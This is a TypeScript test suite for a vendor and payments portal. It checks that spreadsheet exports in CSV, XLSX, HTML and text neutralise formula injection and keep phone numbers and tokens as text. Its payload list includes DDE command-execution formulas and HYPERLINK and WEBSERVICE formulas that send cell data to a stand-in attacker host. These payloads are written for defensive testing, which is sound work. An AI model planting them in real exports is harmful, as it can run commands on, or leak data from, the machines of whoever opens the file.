import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { kobo } from '~/domain/naira';
import { formatOf } from '~/lists/exports/formats';
import type { FileColumn } from '~/lists/exports/table';
import { openInLibreOffice } from '../../support/files';
import { sample } from '../../support/scale';
import { type Servers, startServers } from '../../support/servers';
import { Visitor } from '../../support/visitor';

type Row = { text: string; amount?: number; time?: string };
const columns: FileColumn<Row>[] = [
  { header: 'text', kind: 'text', of: ({ text }) => text },
  { header: 'amount', kind: 'naira', of: ({ amount }) => (amount === undefined ? undefined : kobo(amount)) },
  { header: 'time', kind: 'time', of: ({ time }) => time },
];

/** Texts that a spreadsheet would execute as formulas. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '+2348031234567x',
  '-1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '=WEBSERVICE("http://evil.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u0000=1+1',
  '\u0001\u0002@SUM(A1)',
  '\u0007+1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  "'=1+1",
  ';=1+1',
  '\t\t=1+1',
  ';\t-1+1',
  '=1+1";=2+2',
  '="a"&"b"',
  '＝1+1',
  '=DDE("cmd";"/c calc";"x")',
  '=A1',
];
/** Texts that a spreadsheet would convert to numbers. */
const NUMBERS = [
  '08031234567',
  '00000000000',
  '12345678901234567890',
  '00112233445566778899',
  '1111111111111',
  '0101010101010',
  '1e5',
  '5E12',
  '2026-10',
  '1/2',
  '12.50',
  '1,000',
  '10:30',
  '007',
  '3.10',
  'October 2026',
  'May-5',
  'TRUE',
  'false',
];
const TEXTS = [
  'Ada',
  'a "b", c',
  'two\nlines',
  ' spaces ',
  '₦1,500 Ünïcode 你好 👍',
  'semi;colon',
  "O'Brien",
  'x'.repeat(300),
  '<b>&amp;</b>',
  'Marchers 12',
  'Truest',
  '_x0041_',
];

/** Removes invisible characters and the apostrophes that mark a cell as text. */
const lettersOf = (text: string) => text.replace(/[\s\p{Cc}\p{Cf}\ufffd']/gu, '');

async function write(kind: string, rows: Row[]): Promise<Uint8Array> {
  async function* batches() {
    yield rows;
  }
  const parts: Uint8Array[] = [];
  for await (const part of formatOf(kind)!.write({ name: 'test', columns }, batches())) parts.push(part);
  return Buffer.concat(parts);
}

/** Returns text and type of the first cell of each row below the header, as the spreadsheet reads them. */
async function readBack(kind: 'csv' | 'xlsx' | 'html' | 'txt', texts: string[]) {
  const [, ...rows] = openInLibreOffice(
    await write(
      kind,
      texts.map((text) => ({ text, amount: 1 })),
    ),
    kind,
  );
  return rows.map(([first]) => first!);
}

describe('R10: a file opened in a spreadsheet', () => {
  it.each(sample(['csv', 'xlsx', 'html', 'txt'] as const, 2))('executes no formula in %s', async (kind) => {
    const cells = await readBack(kind, FORMULAS);
    expect(cells).toHaveLength(FORMULAS.length);
    cells.forEach(({ type, value }, index) => {
      expect([FORMULAS[index], type]).toEqual([FORMULAS[index], 'string']);
      if (kind === 'csv' || kind === 'txt')
        expect([FORMULAS[index], value[0]]).toEqual([FORMULAS[index], FORMULAS[index]![0] === ';' ? ';' : "'"]);
      expect(lettersOf(value)).toBe(lettersOf(FORMULAS[index]!));
    });
  });

  it.each(sample([';', '\t'], 2))('executes no formula when cells are separated by %j', async (separator) => {
    const rows = FORMULAS.flatMap((formula) => [
      { text: formula },
      { text: `Ada${separator}${formula}` },
      { text: `Ada "x"${separator} ${formula}` },
      { text: `Ada, Ltd\n${formula}` },
    ]);
    const cells = openInLibreOffice(await write('csv', rows), 'csv', separator).flat();
    const run = cells.filter(({ type, value }) => type !== 'string' && type !== 'empty' && !/^[\d,. ]*$/.test(value));
    expect(run).toEqual([]);
    expect(cells.filter(({ value }) => /^[\s"]*[=+@-]/.test(value))).toEqual([]);
    expect(cells.length).toBeGreaterThan(rows.length);
  });

  it.each(sample(['csv', 'xlsx', 'html'] as const, 3))(
    'loses no digit of a phone, a meter or a token in %s',
    async (kind) => {
      const cells = await readBack(kind, NUMBERS);
      expect(cells.map(({ type, value }) => [type, value])).toEqual(NUMBERS.map((number) => ['string', number]));
    },
  );

  it.each(sample(['csv', 'xlsx'] as const, 2, 1))('keeps text as it is in %s', async (kind) => {
    const cells = await readBack(kind, TEXTS);
    expect(cells.map(({ value }) => value)).toEqual(TEXTS);
  });

  it('stores amounts as numbers, and times in a workbook as dates', async () => {
    const rows: Row[] = [
      { text: 'a', amount: 150_050, time: '2026-11-20T18:55:03.000Z' },
      { text: 'b', amount: -1, time: '2026-12-31T23:30:00.000Z' },
      { text: 'c' },
    ];
    const sheet = openInLibreOffice(await write('xlsx', rows), 'xlsx').slice(1);
    expect(sheet.map(([, amount]) => [amount!.type, amount!.value])).toEqual([
      ['float', '1500.5'],
      ['float', '-0.01'],
      ['empty', ''],
    ]);
    expect(sheet.slice(0, 2).map(([, , time]) => [time!.type, time!.value])).toEqual([
      ['date', '2026-11-20T19:55:03'],
      ['date', '2027-01-01T00:30:00'],
    ]);
    const csv = openInLibreOffice(await write('csv', rows), 'csv').slice(1);
    expect(csv.slice(0, 2).map(([, amount]) => [amount!.type, Number(amount!.value)])).toEqual([
      ['float', 1500.5],
      ['float', -0.01],
    ]);
    expect(csv[0]![2]!.value).toMatch(/^2026-11-20[ T]19:55:03$/);
  });

  describe('downloaded from the portal', () => {
    let servers: Servers;
    beforeAll(async () => void (servers = await startServers()));
    afterAll(() => servers.stop());

    it('executes no formula in a name, and keeps all digits of tokens and phone numbers', async () => {
      const staff = new Visitor(servers.origin);
      await staff.signIn('admin@sandbox.test');
      const name = '=HYPERLINK("http://evil.example","Open")';
      const made = await (
        await staff.open('/vendors?new=1')
      ).press('Create', {
        businessName: name,
        businessAlias: 'x',
        username: 'formula@evil.example',
        password: 'Sandbox-1',
        type: 'Company',
      });
      expect(made.text).toContain('Vendor created.');
      for (const kind of sample(['csv', 'xlsx'] as const, 2)) {
        const list = openInLibreOffice(
          Buffer.from(await (await staff.request(`/lists/vendors/${kind}`)).arrayBuffer()),
          kind,
        );
        expect(list.flat().filter(({ value }) => value.includes('HYPERLINK'))).toEqual([
          { type: 'string', value: kind === 'csv' ? `'${name}` : name },
        ]);
        const report = openInLibreOffice(
          Buffer.from(await (await staff.request(`/reports/transactions/${kind}?from=2026-01-01`)).arrayBuffer()),
          kind,
        );
        const [header, ...rows] = report;
        const at = (column: string) => header!.findIndex(({ value }) => value === column);
        const tokens = rows.map((row) => row[at('TOKEN')]!).filter(({ value }) => value);
        expect(tokens.length).toBeGreaterThan(100);
        for (const { type, value } of tokens) expect([type, value.length]).toEqual(['string', 20]);
        const phones = rows.map((row) => row[at('CUSTOMER')]!).filter(({ value }) => value.startsWith('0'));
        expect(phones.length).toBeGreaterThan(100);
        for (const { type, value } of phones) expect([type, /^0\d{9,12}$/.test(value)]).toEqual(['string', true]);
        for (const row of rows) expect(row[at('AMOUNT')]!.type).toBe('float');
      }
    });
  });
});
